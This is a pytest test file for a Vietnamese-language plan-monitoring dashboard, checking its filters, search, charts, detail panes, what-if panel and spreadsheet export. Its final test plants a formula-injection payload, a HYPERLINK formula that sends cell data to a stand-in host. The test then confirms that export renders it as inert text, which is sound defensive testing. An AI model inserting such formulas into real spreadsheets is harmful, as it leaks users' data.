"""The exploration dashboard (cchc_lib.explore.dashboard), driven the way a user drives it: set a widget,
read what the page would show. Expected rows come from pandas filters written here, not from
the dashboard's own filtering code."""

from __future__ import annotations

import html
import re

import pandas as pd
import pytest
from openpyxl import load_workbook

from cchc_lib import load_plan
from cchc_lib.assessment.engine import assess
from cchc_lib.explore.dashboard import Dashboard
from cchc_lib.explore.filters import selection
from cchc_lib.explore.whatif import what_if
from cchc_lib.i18n import fmt, vocab

from .conftest import edit_cell

PERIOD = "2024-Q2"


# --- helpers -------------------------------------------------------------------------------


def body_rows(markup: str) -> list[str]:
    """The <tr> of the table body (empty list when the widget shows the 'no rows' message)."""
    m = re.search(r"<tbody>(.*)</tbody>", markup, re.S)
    return re.findall(r"<tr[^>]*>(.*?)</tr>", m.group(1), re.S) if m else []


def first_cells(markup: str) -> list[str]:
    return [html.unescape(re.search(r"<td[^>]*>(.*?)</td>", r, re.S).group(1)) for r in body_rows(markup)]


def badges(markup: str) -> list[str]:
    return [html.unescape(b) for r in body_rows(markup) for b in re.findall(r'class="cchc-badge"[^>]*>([^<]*)<', r)]


def contains_ci(frame: pd.DataFrame, cols, needle: str) -> pd.Series:
    """Independent check: plain case-insensitive substring search over the given columns."""
    hit = pd.Series(False, index=frame.index)
    for c in cols:
        hit |= frame[c].astype("string").str.contains(needle, case=False, regex=False).fillna(False).astype(bool)
    return hit


@pytest.fixture(scope="module")
def board(plan, sample_progress, tmp_path_factory):
    return Dashboard(plan, sample_progress, PERIOD, "nd09", "vi", out_dir=tmp_path_factory.mktemp("explore"))


@pytest.fixture
def d(board):
    """The shared dashboard, back at its starting state (Q2, Decree 09, no filter, first tab)."""
    board.tabs.selected_index = 0
    board.cutoff.value = "nd09"
    board.period.value = PERIOD
    board.set_filters()
    board.chart_kind.value = "status"
    return board


@pytest.fixture(scope="module")
def a(plan, sample_progress):
    return assess(plan, sample_progress, PERIOD, "nd09")


# --- filters -----------------------------------------------------------------------------------


@pytest.mark.slow
def test_initial_tables_show_every_target_and_task(d, a):
    assert first_cells(d.target_html.value) == list(a.targets["target_id"])
    assert first_cells(d.task_html.value) == list(a.tasks["task_id"])
    assert d.tabs.titles[:2] == (f"Chỉ tiêu ({len(a.targets)})", f"Nhiệm vụ ({len(a.tasks)})")
    assert "DỮ LIỆU MẪU" in d.header.value and "Quý II/2024" in d.header.value


@pytest.mark.slow
def test_area_filter_ii6(d, a):
    d.area.value = "II.6"
    want_t = a.targets.loc[a.targets["area_id"] == "II.6", "target_id"].tolist()
    want_k = a.tasks.loc[a.tasks["area_id"] == "II.6", "task_id"].tolist()
    assert len(want_t) == 24 and want_t
    assert first_cells(d.target_html.value) == want_t
    assert first_cells(d.task_html.value) == want_k
    assert len(body_rows(d.target_html.value)) == len(want_t)
    assert f"<b>{len(want_t)}</b>/{len(a.targets)}" in d.status.value


def test_unit_filter(d, a):
    d.unit.value = "vh-xh"
    assert first_cells(d.target_html.value) == a.targets.loc[a.targets["lead_unit_id"] == "vh-xh", "target_id"].tolist()
    assert first_cells(d.task_html.value) == a.tasks.loc[a.tasks["lead_unit_id"] == "vh-xh", "task_id"].tolist()


def test_status_filters(d, a):
    d.target_status.value = "at_risk"
    want = a.targets.loc[a.targets["status"] == "at_risk", "target_id"].tolist()
    assert want and first_cells(d.target_html.value) == want
    assert set(badges(d.target_html.value)) == {"Có nguy cơ không đạt"}
    d.task_status.value = "attention"
    want_k = a.tasks.loc[a.tasks["status"].isin(["overdue", "done_late", "recurring_missing"]), "task_id"].tolist()
    assert want_k and first_cells(d.task_html.value) == want_k
    d.task_status.value = "overdue"
    assert set(badges(d.task_html.value)) == {"Quá hạn"}


def test_search_hue_s(d, a):
    d.search.value = "Hue-S"
    want_t = a.targets.loc[
        contains_ci(a.targets, ["target_id", "indicator", "indicator_en", "text"], "hue-s"), "target_id"
    ].tolist()
    want_k = a.tasks.loc[contains_ci(a.tasks, ["task_id", "text"], "hue-s"), "task_id"].tolist()
    assert want_t, "the plan has Hue-S targets"
    assert first_cells(d.target_html.value) == want_t
    assert first_cells(d.task_html.value) == want_k


def test_search_without_diacritics_matches_the_vietnamese_words(d, a):
    d.search.value = "ho so"
    want_t = a.targets.loc[
        contains_ci(a.targets, ["target_id", "indicator", "indicator_en", "text"], "hồ sơ"), "target_id"
    ].tolist()
    want_k = a.tasks.loc[contains_ci(a.tasks, ["task_id", "text"], "hồ sơ"), "task_id"].tolist()
    assert len(want_t) >= 5 and want_k
    assert first_cells(d.target_html.value) == want_t
    assert first_cells(d.task_html.value) == want_k
    d.search.value = "HỒ SƠ"  # and the other way round: accents and capitals typed
    assert first_cells(d.target_html.value) == want_t


def test_filters_combine_and_reset(d, a):
    d.set_filters(area="II.2", search="truc tuyen")
    want = a.targets.loc[
        (a.targets["area_id"] == "II.2") & contains_ci(a.targets, ["indicator", "text"], "trực tuyến"), "target_id"
    ].tolist()
    assert want and first_cells(d.target_html.value) == want
    d.search.value = "khong co chu nay"
    assert body_rows(d.target_html.value) == [] and "Không có chỉ tiêu nào" in d.target_html.value
    d.reset.click()
    assert len(body_rows(d.target_html.value)) == len(a.targets)


def test_pure_selection_equals_what_the_dashboard_shows(d, a):
    d.set_filters(area="II.6", target_status="attention", search="so")
    t, k = selection(a, area="II.6", target_status=("at_risk", "missed", "no_data"), search="so")
    pd.testing.assert_frame_equal(d.targets_view, t)
    pd.testing.assert_frame_equal(d.tasks_view, k)


# --- period and cut-off ------------------------------------------------------------------------


@pytest.mark.parametrize("period", ["2024-Q4", "2024-H1"])
@pytest.mark.slow
def test_period_change_shows_that_periods_statuses(d, plan, sample_progress, period):
    d.period.value = period
    other = assess(plan, sample_progress, period, "nd09")
    assert badges(d.target_html.value) == [vocab.target_status(s) for s in other.targets["status"]]
    assert badges(d.task_html.value) == [vocab.task_status(s) for s in other.tasks["status"]]
    assert d.a.period.code == period
    assert ("Quý IV/2024" if period == "2024-Q4" else "6 tháng đầu năm 2024") in d.header.value


@pytest.mark.slow
def test_cutoff_change_uses_calendar_windows_and_keeps_filters(d, plan, sample_progress):
    d.area.value = "II.2"
    d.cutoff.value = "calendar"
    assert "01/04/2024" in d.header.value and "30/06/2024" in d.header.value
    other = assess(plan, sample_progress, PERIOD, "calendar")
    assert (
        first_cells(d.target_html.value) == other.targets.loc[other.targets["area_id"] == "II.2", "target_id"].tolist()
    )
    assert (PERIOD, "calendar") in d.cached() and (PERIOD, "nd09") in d.cached()


# --- chart ---------------------------------------------------------------------------------------


@pytest.mark.slow
def test_chart_follows_the_selection(d):
    d.tabs.selected_index = d.TAB_CHART
    full = d.chart_image.value
    assert full[:8] == b"\x89PNG\r\n\x1a\n"
    d.area.value = "II.6"
    ii6 = d.chart_image.value
    assert ii6[:8] == b"\x89PNG\r\n\x1a\n" and ii6 != full
    d.chart_kind.value = "actual"
    assert d.chart_image.value not in (full, ii6)
    d.search.value = "khong co chu nay"
    assert d.chart_image.value == b"" and "Không có" in d.chart_message.value
    d.set_filters()
    d.chart_kind.value = "status"
    assert d.chart_image.value == full  # cached per selection


@pytest.mark.slow
def test_chart_is_drawn_only_when_its_tab_is_shown(d):
    d.tabs.selected_index = 0
    before = len(d._charts)
    d.area.value = "II.3"
    assert len(d._charts) == before
    d.tabs.selected_index = d.TAB_CHART
    assert len(d._charts) == before + 1


# --- detail pane ---------------------------------------------------------------------------------


@pytest.mark.slow
def test_target_detail_shows_history_and_source_text(d, plan, sample_progress):
    d.tabs.selected_index = d.TAB_DETAIL
    d.area.value = "II.6"
    d.target_pick.value = "T6.13"
    out = html.unescape(d.target_detail.value)
    row = plan.targets.set_index("target_id").loc["T6.13"]
    assert row["text"] in out and row["source_ref"] in out
    for q in ("2024-Q1", "2024-Q2", "2024-Q3", "2024-Q4"):
        aq = assess(plan, sample_progress, q, "nd09")
        r = aq.targets.set_index("target_id").loc["T6.13"]
        label = f"Quý {['I', 'II', 'III', 'IV'][int(q[-1]) - 1]}/2024"
        line = next(x for x in body_rows(d.target_detail.value) if html.unescape(x).find(label) >= 0)
        assert fmt.value(r["actual"], "percent") in html.unescape(line)
        assert vocab.target_status(r["status"]) in html.unescape(line)
    assert "Quý II/2024 (kỳ đang xem)" in out
    ind = sample_progress.indicators
    src = ind.loc[(ind["target_id"] == "T6.13") & (ind["period"] == "2024-Q2"), "source"].iloc[0]
    assert src in out


@pytest.mark.slow
def test_target_detail_of_a_record_target_shows_the_conflict(d):
    d.tabs.selected_index = d.TAB_DETAIL
    d.target_pick.value = "T2.07"
    out = html.unescape(d.target_detail.value)
    assert "Mâu thuẫn với:" in out and "T6.22" in out and "sổ hồ sơ một cửa" in out


def test_task_detail_shows_deadline_history_and_evidence(d, sample_progress):
    d.tabs.selected_index = d.TAB_DETAIL
    upd = sample_progress.tasks
    kid = upd.loc[upd["evidence"].notna() & upd["task_id"].str.startswith("PL"), "task_id"].iloc[0]
    d.task_pick.value = kid
    out = html.unescape(d.task_detail.value)
    task = d.a.tasks.set_index("task_id").loc[kid]
    assert str(task["deadline_text"]) in out and fmt.date_short(task["deadline"]) in out
    for ev in upd.loc[upd["task_id"] == kid, "evidence"].dropna():
        assert ev in out
    assert len(body_rows(d.task_detail.value)) == 4  # one row per quarter


def test_detail_options_follow_the_filters(d, a):
    d.area.value = "II.5"
    assert [v for _, v in d.target_pick.options] == a.targets.loc[a.targets["area_id"] == "II.5", "target_id"].tolist()
    assert [v for _, v in d.task_pick.options] == a.tasks.loc[a.tasks["area_id"] == "II.5", "task_id"].tolist()


@pytest.mark.slow
def test_what_if_panel(d, a):
    d.tabs.selected_index = d.TAB_WHATIF
    d.area.value = "II.2"
    d.wi_target.value = "T2.07"
    assert d.wi_value.value == pytest.approx(a.targets.set_index("target_id").at["T2.07", "actual"])
    d.wi_value.value = 50
    out = html.unescape(d.wi_html.value)
    res = what_if(a, "T2.07", 50)
    assert "Đánh giá T2.07" in out and ">Đạt<" in out
    assert fmt.number(res["area_score_before"], 1) in out and fmt.number(res["area_score_after"], 1) in out
    assert fmt.number(res["score_after"], 1) in out and "T6.22" in out
    d.wi_reset.click()
    assert d.wi_value.value == pytest.approx(a.targets.set_index("target_id").at["T2.07", "actual"])


# --- export --------------------------------------------------------------------------------------


def test_export_writes_the_filtered_tables(d, tmp_path):
    d.set_filters(area="II.6", search="ho so")
    shown_t = d.targets_view.drop(columns="_status").astype(str)
    shown_k = d.tasks_view.drop(columns="_status").astype(str)
    assert 0 < len(shown_t) < 51

    (xlsx,) = d.export("xlsx")
    assert xlsx.parent == d.out_dir and "II.6" in xlsx.name and xlsx.name.startswith("DU-LIEU-MAU_")
    book = pd.read_excel(xlsx, sheet_name=None, dtype=str, keep_default_na=False)
    assert list(book)[:2] == ["Chỉ tiêu", "Nhiệm vụ"]
    pd.testing.assert_frame_equal(book["Chỉ tiêu"], shown_t, check_dtype=False)
    pd.testing.assert_frame_equal(book["Nhiệm vụ"], shown_k, check_dtype=False)
    assert str(xlsx) in html.unescape(d.export_html.value) and "base64," in d.export_html.value

    csv_t, csv_k = d.export("csv")
    assert csv_t.read_bytes()[:3] == b"\xef\xbb\xbf"  # BOM: Excel shows the diacritics
    pd.testing.assert_frame_equal(
        pd.read_csv(csv_t, dtype=str, keep_default_na=False, encoding="utf-8-sig"), shown_t, check_dtype=False
    )
    pd.testing.assert_frame_equal(
        pd.read_csv(csv_k, dtype=str, keep_default_na=False, encoding="utf-8-sig"), shown_k, check_dtype=False
    )


@pytest.mark.slow
def test_from_params_builds_from_ids(plan, sample_progress, tmp_path):
    board = Dashboard.from_params(plan, sample_progress, "2024-Q3", "calendar", "en", out_dir=tmp_path, prefetch=False)
    assert board.a.period.code == "2024-Q3" and board.a.cutoff == "calendar"
    assert board.tabs.titles[0] == f"Targets ({len(board.a.targets)})"
    assert "SAMPLE DATA" in board.header.value


@pytest.mark.slow
def test_page_export_writes_task_text_starting_with_equals_as_text(plan_copy, sample_progress, tmp_path):
    """A plan sentence (or a unit's evidence) that starts with "=" never becomes a live formula."""
    evil = '=HYPERLINK("http://x.example/?d="&A1,"Xem")'
    edit_cell(plan_copy / "tasks.csv", 0, "text", evil)
    p = load_plan(plan_copy)
    board = Dashboard(p, sample_progress, PERIOD, "nd09", "vi", out_dir=tmp_path)
    task_id = p.tasks["task_id"].iloc[0]
    board.set_filters(search=task_id)
    (xlsx,) = board.export("xlsx")
    ws = load_workbook(xlsx)["Nhiệm vụ"]
    cell = next(c for row in ws.iter_rows(min_row=2) for c in row if c.value == evil)
    assert cell.data_type == "s" and cell.quotePrefix  # Excel's own "typed with a leading '"
    csv_t, csv_k = board.export("csv")
    cells = pd.read_csv(csv_k, dtype=str, keep_default_na=False, encoding="utf-8-sig").to_numpy().ravel().tolist()
    assert f"'{evil}" in cells and evil not in cells  # OWASP: a leading ' makes the spreadsheet read text
